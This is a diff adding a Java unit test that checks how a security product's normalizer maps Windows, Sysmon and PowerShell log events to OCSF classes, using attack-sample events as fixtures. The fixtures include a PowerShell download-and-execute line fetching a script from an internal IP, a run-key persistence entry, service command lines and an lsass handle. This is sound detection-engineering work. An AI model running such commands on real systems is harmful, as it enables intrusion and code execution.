@@ -1,0 +1,412 @@
+package io.socaas.events.ocsf;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import io.socaas.events.IngestIds;
+import io.socaas.events.JsonEvent;
+import io.socaas.events.TenantId;
+import java.time.Instant;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+
+/**
+ * Windows events beyond logons and processes reach their OCSF classes: account, group and
+ * privilege changes, scheduled tasks, services, registry, modules, drivers, pipes, log clears and
+ * PowerShell. The events are real ones of the shared corpus (evtx-attack-samples: evtx-dump shape;
+ * OTRF Security-Datasets: flat NXLog shape), shortened to the fields that matter.
+ */
+class WindowsEventClassesTest {
+
+    private static final ObjectMapper JSON = new ObjectMapper();
+    private static final OcsfNormalizer.Context CONTEXT = new OcsfNormalizer.Context(
+            TenantId.of("acme"), IngestIds.derived("key1", "batch", 0), Instant.parse("2026-03-01T10:00:00Z"), "dc01");
+
+    private final OcsfNormalizer normalizer = OcsfNormalizer.withShippedMappings();
+
+    private JsonNode normalize(String json) throws Exception {
+        return JSON.readTree(
+                normalizer.normalize(JsonEvent.parse(json), CONTEXT).event().toJsonBytes());
+    }
+
+    /** An evtx-dump event of the channel with the given EventData. */
+    private static String evtx(String channel, int eventId, String eventData) {
+        return """
+                {"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},"EventID":%d,
+                 "TimeCreated":{"#attributes":{"SystemTime":"2026-02-28T23:35:07.524202Z"}},"Channel":"%s",
+                 "Computer":"PC01.example.corp"},"EventData":%s}}""".formatted(eventId, channel, eventData);
+    }
+
+    private static void assertClass(JsonNode r, int classUid, int activityId, String activityName) {
+        assertThat(r.get("class_uid").asInt()).as(r.toString()).isEqualTo(classUid);
+        assertThat(r.get("activity_id").asInt()).as(r.toString()).isEqualTo(activityId);
+        assertThat(r.get("activity_name").asText()).isEqualTo(activityName);
+        assertThat(r.get("type_uid").asLong()).isEqualTo(classUid * 100L + activityId);
+    }
+
+    @Test
+    void userAccountChangesAreAccountChangeWithTheirActivity() throws Exception {
+        String target = """
+                {"TargetUserName":"DC012$","TargetDomainName":"3B","TargetSid":"S-1-5-21-308926384-506822093-3341789130-220105",
+                 "SubjectUserSid":"S-1-5-21-308926384-506822093-3341789130-101606","SubjectUserName":"lgrove",
+                 "SubjectDomainName":"3B","SubjectLogonId":"0x738ae4"}""";
+        record Case(int eventId, int activityId, String name) {}
+        for (Case c : List.of(
+                new Case(4720, 1, "Create"),
+                new Case(4722, 2, "Enable"),
+                new Case(4723, 3, "Password Change"),
+                new Case(4724, 4, "Password Reset"),
+                new Case(4725, 5, "Disable"),
+                new Case(4726, 6, "Delete"),
+                new Case(4767, 12, "Unlock"),
+                new Case(4738, 99, "Other"))) {
+            JsonNode r = normalize(evtx("Security", c.eventId(), target));
+            assertClass(r, 3001, c.activityId(), c.name());
+            assertThat(r.get("category_uid").asInt()).isEqualTo(3);
+            assertThat(r.at("/user/name").asText()).isEqualTo("DC012$");
+            assertThat(r.at("/user/domain").asText()).isEqualTo("3B");
+            assertThat(r.at("/user/uid").asText()).isEqualTo("S-1-5-21-308926384-506822093-3341789130-220105");
+            assertThat(r.at("/actor/user/name").asText()).isEqualTo("lgrove");
+            assertThat(r.at("/device/hostname").asText()).isEqualTo("PC01.example.corp");
+        }
+
+        // a lockout's "domain" is the computer the bad passwords came from
+        JsonNode locked = normalize("""
+                {"Channel":"Security","EventID":4740,"Hostname":"DC1","TargetUserName":"pgustavo","TargetDomainName":"WORKSTATION5",
+                 "TargetSid":"S-1-5-21-4228717743-1032521047-1810997296-1104","SubjectUserName":"DC1$","SubjectDomainName":"THESHIRE"}""");
+        assertClass(locked, 3001, 9, "Lock");
+        assertThat(locked.at("/user/name").asText()).isEqualTo("pgustavo");
+        assertThat(locked.at("/src_endpoint/hostname").asText()).isEqualTo("WORKSTATION5");
+        assertThat(locked.at("/user").has("domain")).isFalse();
+    }
+
+    @Test
+    void groupMembershipChangesAreGroupManagement() throws Exception {
+        JsonNode added = normalize(evtx("Security", 4732, """
+                {"MemberName":"-","MemberSid":"S-1-5-21-1587066498-1489273250-1035260531-1106","TargetUserName":"Administrators",
+                 "TargetDomainName":"Builtin","TargetSid":"S-1-5-32-544","SubjectUserSid":"S-1-5-21-1587066498-1489273250-1035260531-500",
+                 "SubjectUserName":"Administrator","SubjectDomainName":"EXAMPLE","SubjectLogonId":"0x17e2d2","PrivilegeList":"-"}"""));
+        assertClass(added, 3006, 3, "Add User");
+        assertThat(added.at("/group/name").asText()).isEqualTo("Administrators");
+        assertThat(added.at("/group/uid").asText()).isEqualTo("S-1-5-32-544");
+        assertThat(added.at("/user/uid").asText()).isEqualTo("S-1-5-21-1587066498-1489273250-1035260531-1106");
+        assertThat(added.at("/user").has("name")).as("'-' is no name").isFalse();
+        assertThat(added.at("/actor/user/name").asText()).isEqualTo("Administrator");
+
+        String group = """
+                {"Channel":"Security","EventID":%d,"TargetUserName":"Backup Operators","TargetDomainName":"Builtin",
+                 "TargetSid":"S-1-5-32-551","MemberSid":"S-1-5-21-1-2-3-1104","SubjectUserName":"admin01"}""";
+        assertClass(normalize(group.formatted(4728)), 3006, 3, "Add User");
+        assertClass(normalize(group.formatted(4733)), 3006, 4, "Remove User");
+        assertClass(normalize(group.formatted(4731)), 3006, 6, "Create");
+        assertClass(normalize(group.formatted(4758)), 3006, 5, "Delete");
+        assertClass(normalize(group.formatted(4735)), 3006, 99, "Other");
+
+        // enumerating a group's members reads it
+        JsonNode enumerated = normalize("""
+                {"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","Hostname":"Pedro01","TimeCreated":"2026-02-28T07:22:21.929Z",
+                 "EventID":4799,"TargetUserName":"Administrators","TargetDomainName":"Builtin","TargetSid":"S-1-5-32-544",
+                 "SubjectUserSid":"S-1-5-18","SubjectUserName":"PEDRO01$","SubjectDomainName":"WORKGROUP","SubjectLogonId":"0x3e7",
+                 "CallerProcessId":"0x1cc4","CallerProcessName":"C:\\\\Windows\\\\System32\\\\consent.exe"}""");
+        assertClass(enumerated, 3004, 2, "Read");
+        assertThat(enumerated.at("/entity/type_id").asInt()).isEqualTo(3);
+        assertThat(enumerated.at("/entity/group/name").asText()).isEqualTo("Administrators");
+        assertThat(enumerated.at("/actor/process/file/path").asText()).isEqualTo("C:\\Windows\\System32\\consent.exe");
+        assertThat(enumerated.at("/actor/process/pid").asInt()).isEqualTo(0x1cc4);
+    }
+
+    @Test
+    void specialPrivilegesAtLogonAreAuthorizeSessionWithThePrivilegeList() throws Exception {
+        JsonNode r = normalize(evtx("Security", 4672, """
+                {"SubjectUserSid":"S-1-5-21-1587066498-1489273250-1035260531-1108","SubjectUserName":"admin01",
+                 "SubjectDomainName":"EXAMPLE","SubjectLogonId":"0x14871d",
+                 "PrivilegeList":"SeSecurityPrivilege\\n\\t\\t\\tSeBackupPrivilege\\n\\t\\t\\tSeDebugPrivilege"}"""));
+        assertClass(r, 3003, 1, "Assign Privileges");
+        assertThat(r.at("/user/name").asText()).isEqualTo("admin01");
+        assertThat(r.at("/session/uid").asText()).isEqualTo("0x14871d");
+        assertThat(r.get("privileges").isArray()).isTrue();
+        assertThat(r.get("privileges").toString())
+                .isEqualTo("[\"SeSecurityPrivilege\",\"SeBackupPrivilege\",\"SeDebugPrivilege\"]");
+    }
+
+    @Test
+    void scheduledTasksAreScheduledJobActivity() throws Exception {
+        String task = """
+                {"SubjectUserSid":"S-1-5-21-1587066498-1489273250-1035260531-500","SubjectUserName":"Administrator",
+                 "SubjectDomainName":"EXAMPLE","SubjectLogonId":"0x17e2d2","TaskName":"\\\\CYAlyNSS",
+                 "TaskContent":"<?xml version=\\"1.0\\" encoding=\\"UTF-16\\"?><Task version=\\"1.2\\"/>"}""";
+        JsonNode created = normalize(evtx("Security", 4698, task));
+        assertClass(created, 1006, 1, "Create");
+        assertThat(created.at("/job/name").asText()).isEqualTo("\\CYAlyNSS");
+        assertThat(created.at("/actor/user/name").asText()).isEqualTo("Administrator");
+        assertClass(normalize(evtx("Security", 4699, task)), 1006, 3, "Delete");
+        assertClass(normalize(evtx("Security", 4700, task)), 1006, 4, "Enable");
+        assertClass(normalize(evtx("Security", 4701, task)), 1006, 5, "Disable");
+        assertClass(normalize(evtx("Security", 4702, task)), 1006, 2, "Update");
+    }
+
+    @Test
+    void installedServicesAreWindowsServiceActivityFromSecurityAndSystem() throws Exception {
+        JsonNode security = normalize("""
+                {"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","Hostname":"WORKSTATION5",
+                 "TimeCreated":"2026-02-28T09:07:41.219Z","EventID":4697,"SubjectUserName":"APT-Simulator",
+                 "SubjectDomainName":"WORKSTATION5","SubjectLogonId":"0x3719fb","ServiceName":"tbbd05",
+                 "ServiceFileName":"%COMSPEC% echo /c b6a1458f396 > \\\\\\\\.\\\\pipe\\\\334485","ServiceType":"0x10",
+                 "ServiceStartType":"3","ServiceAccount":"LocalSystem"}""");
+        assertClass(security, 201004, 1, "Create");
+        assertThat(security.get("category_uid").asInt()).isEqualTo(1);
+        assertThat(security.at("/win_service/name").asText()).isEqualTo("tbbd05");
+        assertThat(security.at("/win_service/cmd_line").asText())
+                .isEqualTo("%COMSPEC% echo /c b6a1458f396 > \\\\.\\pipe\\334485");
+        assertThat(security.at("/win_service/service_start_name").asText()).isEqualTo("LocalSystem");
+        assertThat(security.at("/actor/user/name").asText()).isEqualTo("APT-Simulator");
+
+        JsonNode system = normalize("""
+                {"Event":{"System":{"Provider":{"#attributes":{"Name":"Service Control Manager"}},
+                 "EventID":{"#attributes":{"Qualifiers":16384},"#text":7045},"Channel":"System","Computer":"PC01.example.corp",
+                 "TimeCreated":{"#attributes":{"SystemTime":"2026-02-28T12:34:07.124Z"}}},
+                 "EventData":{"ServiceName":"spoolsv","ImagePath":"cmd.exe /c whoami","ServiceType":"user mode service",
+                 "StartType":"demand start","AccountName":"LocalSystem"}}}""");
+        assertClass(system, 201004, 1, "Create");
+        assertThat(system.at("/win_service/name").asText()).isEqualTo("spoolsv");
+        assertThat(system.at("/win_service/cmd_line").asText()).isEqualTo("cmd.exe /c whoami");
+        assertThat(system.at("/win_service/service_start_type").asText()).isEqualTo("demand start");
+        assertThat(system.at("/metadata/log_name").asText()).isEqualTo("System");
+    }
+
+    @Test
+    void clearedEventLogsAreEventLogActivityClear() throws Exception {
+        JsonNode security = normalize("""
+                {"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Eventlog"}},"EventID":1102,
+                 "TimeCreated":{"#attributes":{"SystemTime":"2026-02-28T23:35:07.524202Z"}},"Channel":"Security",
+                 "Computer":"PC01.example.corp"},"UserData":{"LogFileCleared":{
+                 "SubjectUserSid":"S-1-5-21-1587066498-1489273250-1035260531-1106","SubjectUserName":"user01",
+                 "SubjectDomainName":"EXAMPLE","SubjectLogonId":"0x17dad"}}}}""");
+        assertClass(security, 1008, 1, "Clear");
+        assertThat(security.get("log_name").asText()).isEqualTo("Security");
+        assertThat(security.at("/actor/user/name").asText()).isEqualTo("user01");
+
+        JsonNode systemEvtx = normalize("""
+                {"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Eventlog"}},"EventID":104,
+                 "TimeCreated":{"#attributes":{"SystemTime":"2026-02-28T23:35:07Z"}},"Channel":"System","Computer":"PC01"},
+                 "UserData":{"LogFileCleared":{"SubjectUserName":"user01","SubjectDomainName":"EXAMPLE",
+                 "Channel":"Microsoft-Windows-Sysmon/Operational","BackupPath":""}}}}""");
+        assertClass(systemEvtx, 1008, 1, "Clear");
+        assertThat(systemEvtx.get("log_name").asText()).isEqualTo("Microsoft-Windows-Sysmon/Operational");
+        assertThat(systemEvtx.at("/actor/user/name").asText()).isEqualTo("user01");
+
+        JsonNode systemFlat = normalize("""
+                {"Message":"The System log file was cleared.","EventID":104,"SourceName":"Microsoft-Windows-Eventlog",
+                 "TimeCreated":"2026-02-28T03:52:01.767Z","Hostname":"WORKSTATION5","Channel":"System"}""");
+        assertClass(systemFlat, 1008, 1, "Clear");
+        assertThat(systemFlat.get("log_name").asText()).isEqualTo("System");
+        assertThat(systemFlat.at("/device/hostname").asText()).isEqualTo("WORKSTATION5");
+    }
+
+    @Test
+    void sysmonRegistryEventsAreRegistryKeyAndValueActivity() throws Exception {
+        String sysmon = "Microsoft-Windows-Sysmon/Operational";
+        JsonNode set = normalize(evtx(sysmon, 13, """
+                {"RuleName":"T1060,RunKey","EventType":"SetValue","UtcTime":"2026-02-28 00:02:04.319","ProcessGuid":"{365ABB72-2D9F-5C90-0000-0010F4A60F00}",
+                 "ProcessId":"3640","Image":"C:\\\\Windows\\\\system32\\\\reg.exe",
+                 "TargetObject":"HKU\\\\S-1-5-21-1-2-3-1106\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\evil",
+                 "Details":"C:\\\\Users\\\\Public\\\\evil.exe"}"""));
+        assertClass(set, 201002, 2, "Set");
+        assertThat(set.at("/reg_value/path").asText())
+                .isEqualTo("HKU\\S-1-5-21-1-2-3-1106\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
+        assertThat(set.at("/reg_value/name").asText()).isEqualTo("evil");
+        assertThat(set.at("/reg_value/data").asText()).isEqualTo("C:\\Users\\Public\\evil.exe");
+        assertThat(set.at("/actor/process/file/path").asText()).isEqualTo("C:\\Windows\\system32\\reg.exe");
+        assertThat(set.at("/actor/process/pid").asInt()).isEqualTo(3640);
+        // Sigma reads the source's own names
+        assertThat(set.at("/unmapped/Event/EventData/TargetObject").asText()).endsWith("\\Run\\evil");
+
+        String object = """
+                {"EventType":"%s","UtcTime":"2026-02-28 09:12:00.1","ProcessGuid":"{365ABB72-1D9F-5C90-0000-0010A4E60E00}","ProcessId":"1408",
+                 "Image":"C:\\\\Windows\\\\regedit.exe","TargetObject":"HKLM\\\\System\\\\CurrentControlSet\\\\Services\\\\evil"}""";
+        JsonNode created = normalize(evtx(sysmon, 12, object.formatted("CreateKey")));
+        assertClass(created, 201001, 1, "Create");
+        assertThat(created.at("/reg_key/path").asText()).isEqualTo("HKLM\\System\\CurrentControlSet\\Services\\evil");
+        assertClass(normalize(evtx(sysmon, 12, object.formatted("DeleteKey"))), 201001, 4, "Delete");
+        JsonNode valueDeleted = normalize(evtx(sysmon, 12, object.formatted("DeleteValue")));
+        assertClass(valueDeleted, 201002, 4, "Delete");
+        assertThat(valueDeleted.at("/reg_value/name").asText()).isEqualTo("evil");
+
+        // NXLog replaces EventType with its own; the message text still says which
+        JsonNode nxlog = normalize("""
+                {"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":12,"Hostname":"IT001.shire.com","EventType":"INFO",
+                 "Message":"Registry object added or deleted:\\r\\nRuleName: \\r\\nEventType: DeleteKey\\r\\nUtcTime: 2019-12-25 04:52:00.957",
+                 "Image":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
+                 "TargetObject":"HKU\\\\S-1-5-21-1-2-3-1104\\\\Software\\\\Classes\\\\ms-settings"}""");
+        assertClass(nxlog, 201001, 4, "Delete");
+        assertThat(nxlog.at("/reg_key/path").asText())
+                .isEqualTo("HKU\\S-1-5-21-1-2-3-1104\\Software\\Classes\\ms-settings");
+        JsonNode nxlogValue = normalize("""
+                {"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":12,"Hostname":"IT001.shire.com",
+                 "Message":"Registry object added or deleted:\\r\\nRuleName: \\r\\nEventType: DeleteValue\\r\\nUtcTime: 2019-12-25 04:52:00.957\\r\\nProcessId: 716\\r\\nImage: C:\\\\Windows\\\\regedit.exe\\r\\nTargetObject: HKLM\\\\Software\\\\Run\\\\evil",
+                 "Image":"C:\\\\Windows\\\\regedit.exe","TargetObject":"HKLM\\\\Software\\\\Run\\\\evil"}""");
+        assertClass(nxlogValue, 201002, 4, "Delete");
+        assertThat(nxlogValue.at("/reg_value/path").asText()).isEqualTo("HKLM\\Software\\Run");
+        assertThat(nxlogValue.at("/reg_value/name").asText()).isEqualTo("evil");
+
+        JsonNode renamed = normalize(evtx(sysmon, 14, """
+                {"EventType":"RenameKey","ProcessId":"1408","Image":"C:\\\\Windows\\\\regedit.exe",
+                 "TargetObject":"HKLM\\\\Software\\\\Old","NewName":"HKLM\\\\Software\\\\New"}"""));
+        assertClass(renamed, 201001, 5, "Rename");
+        assertThat(renamed.at("/reg_key/path").asText()).isEqualTo("HKLM\\Software\\New");
+        assertThat(renamed.at("/prev_reg_key/path").asText()).isEqualTo("HKLM\\Software\\Old");
+    }
+
+    @Test
+    void securityRegistryAuditingIsRegistryActivity() throws Exception {
+        JsonNode read = normalize(evtx("Security", 4663, """
+                {"SubjectUserSid":"S-1-5-19","SubjectUserName":"LOCAL SERVICE","SubjectDomainName":"NT AUTHORITY","SubjectLogonId":"0x3e5",
+                 "ObjectServer":"Security","ObjectType":"Key","ObjectName":"\\\\REGISTRY\\\\MACHINE\\\\SYSTEM\\\\ControlSet001\\\\Control\\\\Lsa\\\\FipsAlgorithmPolicy",
+                 "HandleId":"0x468","AccessList":"%%4432","AccessMask":"0x1","ProcessId":"0x5a8","ProcessName":"C:\\\\Windows\\\\System32\\\\svchost.exe"}"""));
+        assertClass(read, 201001, 2, "Read");
+        assertThat(read.at("/reg_key/path").asText()).endsWith("\\Lsa\\FipsAlgorithmPolicy");
+        assertThat(read.get("access_mask").asInt()).isEqualTo(1);
+        assertThat(read.at("/actor/process/pid").asInt()).isEqualTo(0x5a8);
+
+        JsonNode modified = normalize("""
+                {"Channel":"Security","EventID":4657,"Hostname":"WORKSTATION5","SubjectUserName":"wardog",
+                 "ObjectName":"\\\\REGISTRY\\\\MACHINE\\\\SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run",
+                 "ObjectValueName":"Updater","HandleId":"0x1b4","OperationType":"%%1905","OldValueType":"%%1873",
+                 "OldValue":"C:\\\\old.exe","NewValueType":"%%1873","NewValue":"C:\\\\new.exe","ProcessId":"0x1a8c",
+                 "ProcessName":"C:\\\\Windows\\\\regedit.exe"}""");
+        assertClass(modified, 201002, 3, "Modify");
+        assertThat(modified.at("/reg_value/name").asText()).isEqualTo("Updater");
+        assertThat(modified.at("/reg_value/data").asText()).isEqualTo("C:\\new.exe");
+        assertThat(modified.at("/prev_reg_value/data").asText()).isEqualTo("C:\\old.exe");
+
+        JsonNode lsass = normalize(evtx("Security", 4656, """
+                {"SubjectUserName":"IEUser","ObjectServer":"Security","ObjectType":"Process",
+                 "ObjectName":"\\\\Device\\\\HarddiskVolume1\\\\Windows\\\\System32\\\\lsass.exe","HandleId":"0x558",
+                 "AccessMask":"0x1f3fff","ProcessId":"0x1688","ProcessName":"C:\\\\Windows\\\\System32\\\\cscript.exe"}"""));
+        assertClass(lsass, 1007, 3, "Open");
+        assertThat(lsass.at("/process/file/path").asText()).endsWith("\\lsass.exe");
+        assertThat(lsass.at("/actor/process/file/path").asText()).isEqualTo("C:\\Windows\\System32\\cscript.exe");
+    }
+
+    @Test
+    void sysmonModulesDriversPipesAndRawReadsReachTheirClasses() throws Exception {
+        String sysmon = "Microsoft-Windows-Sysmon/Operational";
+        JsonNode module = normalize(evtx(sysmon, 7, """
+                {"UtcTime":"2026-02-28 15:12:25.482","ProcessGuid":"{365ABB72-3D4F-5C8F-0000-0010C6A81400}","ProcessId":"2196",
+                 "Image":"C:\\\\Windows\\\\System32\\\\rundll32.exe","ImageLoaded":"C:\\\\Windows\\\\System32\\\\samlib.dll",
+                 "FileVersion":"10.0.17763.1","Description":"SAM Library DLL","Product":"Microsoft® Windows® Operating System",
+                 "Company":"Microsoft Corporation","OriginalFileName":"samlib.dll",
+                 "Hashes":"SHA256=6B2D8D1E1B2A2F3C4D5E6F708192A3B4C5D6E7F8091A2B3C4D5E6F708192A3B4","Signed":"true",
+                 "Signature":"Microsoft Windows","SignatureStatus":"Valid"}"""));
+        assertClass(module, 1005, 1, "Load");
+        assertThat(module.at("/module/file/path").asText()).isEqualTo("C:\\Windows\\System32\\samlib.dll");
+        assertThat(module.at("/module/file/company_name").asText()).isEqualTo("Microsoft Corporation");
+        assertThat(module.at("/module/file/hashes/0/algorithm_id").asInt()).isEqualTo(3);
+        assertThat(module.at("/actor/process/file/path").asText()).isEqualTo("C:\\Windows\\System32\\rundll32.exe");
+        assertThat(module.at("/actor/process/uid").asText()).isEqualTo("{365ABB72-3D4F-5C8F-0000-0010C6A81400}");
+
+        JsonNode driver = normalize(evtx(sysmon, 6, """
+                {"UtcTime":"2026-02-28 15:12:25.482","ImageLoaded":"C:\\\\Windows\\\\Temp\\\\mimidrv.sys",
+                 "Hashes":"SHA1=E4E6E7B3CA0D35A1D7E3E2B3E7B4F1D5A2C3B4D5","Signed":"true","Signature":"Benjamin Delpy","SignatureStatus":"Expired"}"""));
+        assertClass(driver, 1002, 1, "Load");
+        assertThat(driver.at("/driver/file/path").asText()).isEqualTo("C:\\Windows\\Temp\\mimidrv.sys");
+
+        JsonNode pipe = normalize("""
+                {"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":17,"Hostname":"WORKSTATION5","UtcTime":"2026-02-28 03:52:01.767",
+                 "EventType":"CreatePipe","ProcessGuid":"{39e4a257-5d5a-5f2a-4c02-000000000600}","ProcessId":"5764",
+                 "PipeName":"\\\\MSSE-1234-server","Image":"C:\\\\Users\\\\wardog\\\\beacon.exe"}""");
+        assertClass(pipe, 1001, 1, "Create");
+        assertThat(pipe.at("/file/name").asText()).isEqualTo("\\MSSE-1234-server");
+        assertThat(pipe.at("/file/type_id").asInt()).isEqualTo(6);
+        assertThat(pipe.at("/actor/process/file/path").asText()).isEqualTo("C:\\Users\\wardog\\beacon.exe");
+        assertClass(normalize(evtx(sysmon, 18, """
+                {"EventType":"ConnectPipe","ProcessId":"4","PipeName":"\\\\lsass","Image":"System"}""")), 1001, 14, "Open");
+
+        JsonNode raw = normalize(evtx(sysmon, 9, """
+                {"ProcessId":"4242","Image":"C:\\\\tools\\\\ninjacopy.exe","Device":"\\\\Device\\\\HarddiskVolume2"}"""));
+        assertClass(raw, 1001, 2, "Read");
+        assertThat(raw.at("/file/path").asText()).isEqualTo("\\Device\\HarddiskVolume2");
+    }
+
+    @Test
+    void powerShellScriptBlocksAndPipelinesAreScriptActivity() throws Exception {
+        JsonNode block = normalize("""
+                {"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-PowerShell"}},"EventID":4104,
+                 "TimeCreated":{"#attributes":{"SystemTime":"2026-02-28T20:05:31.123Z"}},
+                 "Channel":"Microsoft-Windows-PowerShell/Operational","Computer":"MSEDGEWIN10",
+                 "Security":{"#attributes":{"UserID":"S-1-5-21-3461203602-4096304019-2269080069-1000"}}},
+                 "EventData":{"MessageNumber":1,"MessageTotal":1,"ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString('http://10.0.2.15/a.ps1')",
+                 "ScriptBlockId":"b2a1c1b6-1f51-4a0e-9a26-3a1d0c7d52c6","Path":"C:\\\\Users\\\\IEUser\\\\a.ps1"}}}""");
+        assertClass(block, 1009, 1, "Execute");
+        assertThat(block.at("/script/script_content").asText()).startsWith("IEX (New-Object Net.WebClient)");
+        assertThat(block.at("/script/type_id").asInt()).isEqualTo(2);
+        assertThat(block.at("/script/uid").asText()).isEqualTo("b2a1c1b6-1f51-4a0e-9a26-3a1d0c7d52c6");
+        assertThat(block.at("/script/file/path").asText()).isEqualTo("C:\\Users\\IEUser\\a.ps1");
+        assertThat(block.at("/actor/user/uid").asText()).isEqualTo("S-1-5-21-3461203602-4096304019-2269080069-1000");
+        assertThat(block.at("/metadata/log_name").asText()).isEqualTo("Microsoft-Windows-PowerShell/Operational");
+
+        JsonNode flat = normalize("""
+                {"Channel":"Microsoft-Windows-PowerShell/Operational","EventID":4104,"Hostname":"WORKSTATION5",
+                 "@timestamp":"2026-02-28T06:28:46.317Z","ScriptBlockText":"whoami /groups","ScriptBlockId":"0f6c1d66",
+                 "UserID":"S-1-5-21-1549354820-3669603161-4025758380-1104","AccountName":"pgustavo","Domain":"THESHIRE"}""");
+        assertClass(flat, 1009, 1, "Execute");
+        assertThat(flat.at("/script/script_content").asText()).isEqualTo("whoami /groups");
+        assertThat(flat.at("/actor/user/name").asText()).isEqualTo("pgustavo");
+        assertThat(flat.at("/actor/user/domain").asText()).isEqualTo("THESHIRE");
+
+        assertClass(normalize("""
+                {"Channel":"Microsoft-Windows-PowerShell/Operational","EventID":4103,"Hostname":"WORKSTATION5",
+                 "Payload":"CommandInvocation(Get-Process): \\"Get-Process\\"","ContextInfo":"Severity = Informational"}"""), 1009, 1, "Execute");
+        JsonNode classic = normalize("""
+                {"Channel":"Windows PowerShell","EventID":800,"Hostname":"WORKSTATION5",
+                 "Message":"Pipeline execution details for command line: Get-Process"}""");
+        assertClass(classic, 1009, 1, "Execute");
+        assertThat(classic.at("/script/type").asText()).isEqualTo("PowerShell");
+    }
+
+    @Test
+    void otherEventsOfTheSameChannelsKeepTheirClassOrStayBaseEvents() throws Exception {
+        // a handle closed names no object: nothing to map it to
+        assertThat(normalize(evtx("Security", 4658, """
+                {"SubjectUserName":"Administrator","ObjectServer":"Security Account Manager","HandleId":"0xc9774b43b0",
+                 "ProcessId":"0x1f0","ProcessName":"C:\\\\Windows\\\\System32\\\\lsass.exe"}""")).get("class_uid").asInt())
+                .isZero();
+        // a handle to a service object is no registry, file or process activity
+        assertThat(normalize("""
+                {"Channel":"Security","EventID":4656,"ObjectType":"SERVICE OBJECT","ObjectName":"WinDefend",
+                 "ProcessName":"C:\\\\Windows\\\\System32\\\\services.exe"}""").get("class_uid").asInt()).isZero();
+        // the existing Security and Sysmon classes are unchanged
+        assertClass(
+                normalize(evtx("Security", 4624, "{\"TargetUserName\":\"bob\",\"LogonType\":3}")), 3002, 1, "Logon");
+        assertClass(
+                normalize(evtx("Microsoft-Windows-Sysmon/Operational", 1, "{\"Image\":\"C:\\\\a.exe\"}")),
+                1007,
+                1,
+                "Launch");
+        // Sysmon's service state and configuration events, WMI events and clipboard captures have no class here
+        for (int id : List.of(4, 16, 19, 24)) {
+            assertThat(normalize(evtx("Microsoft-Windows-Sysmon/Operational", id, "{\"State\":\"Started\"}"))
+                            .get("class_uid")
+                            .asInt())
+                    .as("Sysmon %d", id)
+                    .isZero();
+        }
+        // other System and PowerShell events stay Base Events
+        assertThat(normalize(
+                                "{\"Channel\":\"System\",\"EventID\":7036,\"param1\":\"Windows Update\",\"param2\":\"running\"}")
+                        .get("class_uid")
+                        .asInt())
+                .isZero();
+        assertThat(normalize(
+                                "{\"Channel\":\"Windows PowerShell\",\"EventID\":400,\"Message\":\"Engine state is changed\"}")
+                        .get("class_uid")
+                        .asInt())
+                .isZero();
+        // 4104 of another channel is not a script block
+        assertThat(normalize("{\"Channel\":\"Application\",\"EventID\":4104,\"ScriptBlockText\":\"x\"}")
+                        .get("class_uid")
+                        .asInt())
+                .isZero();
+    }
+}
